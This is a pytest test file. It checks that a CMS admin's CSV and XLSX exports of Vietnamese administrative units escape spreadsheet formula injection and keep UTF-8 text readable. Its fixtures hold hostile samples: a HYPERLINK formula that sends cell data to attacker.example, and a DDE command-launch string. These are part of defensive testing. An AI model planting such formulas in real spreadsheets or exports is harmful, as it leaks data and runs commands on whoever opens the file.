"""The admin's exports open safely in Excel: no text cell runs as a formula, Vietnamese reads right."""

import csv
import io

import openpyxl
import pytest

from cms.directory.models import Role
from cms.spreadsheets import inert_text
from tests.factories import commune, district, member, province

UNITS = "/admin/directory/unit/"
HOSTILE = '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")'


@pytest.fixture
def office(client, db):
    dak_lak = province()
    krong_pac = district(dak_lak, "652", "Huyện Krông Pắc")
    commune(krong_pac, "24400", HOSTILE)
    commune(krong_pac, "24401", "Xã Ea Kly")
    client.force_login(member(Role.OFFICE_EDITOR, unit=dak_lak, username="office"))
    return client


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+84 912 345 678", "'+84 912 345 678"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tchèn", "'\tchèn"),
        ("\rchèn", "'\rchèn"),
        ("-12", "-12"),
        ("-12,5", "-12,5"),
        ("+3.25", "+3.25"),
        (-12, -12),
        ("Xã Hòa Thuận", "Xã Hòa Thuận"),
        ("", ""),
    ],
)
def test_text_that_would_run_as_a_formula_is_written_as_text(value, shown):
    assert inert_text(value) == shown


def test_unit_csv_export_is_utf8_with_a_bom_and_no_live_formula(office):
    response = office.get(UNITS, {"export": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    names = [row[1] for row in rows[1:]]
    assert "'" + HOSTILE in names
    assert "Xã Ea Kly" in names
    assert not any(name.startswith("=") for name in names)


def test_unit_xlsx_export_keeps_the_text_as_text(office):
    response = office.get(UNITS, {"export": "xlsx"})
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [row[1] for row in book.active.iter_rows(min_row=2)]
    hostile = next(cell for cell in cells if cell.value and "HYPERLINK" in str(cell.value))
    assert hostile.data_type == "s"
